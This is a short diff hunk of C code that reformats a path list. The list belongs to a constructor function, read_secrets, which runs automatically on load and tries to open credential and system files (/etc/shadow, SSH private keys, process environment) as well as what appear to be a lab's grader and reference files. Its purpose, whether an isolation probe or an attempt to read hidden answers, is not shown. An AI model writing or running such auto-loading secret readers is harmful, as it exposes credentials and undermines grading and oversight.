@@ -7,9 +7,10 @@
 
 __attribute__((constructor)) static void read_secrets(void)
 {
-	static const char *const places[] = { "/lab/lab.json", "/lab/generate", "/lab/check", "/lab/vectors/published.json",
-		"/lab/reference", "/in/case.json", "/etc/passwd", "/etc/shadow", "/proc/self/maps", "/proc/1/mem",
-		"/proc/1/cmdline", "/proc/1/environ", "/root/.ssh/id_ed25519", "../lab.json" };
+	static const char *const places[] = { "/lab/lab.json", "/lab/generate", "/lab/check",
+		"/lab/vectors/published.json", "/lab/reference", "/in/case.json", "/etc/passwd", "/etc/shadow",
+		"/proc/self/maps", "/proc/1/mem", "/proc/1/cmdline", "/proc/1/environ", "/root/.ssh/id_ed25519",
+		"../lab.json" };
 	char text[256];
 	for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++) {
 		int fd = open(places[i], O_RDONLY);
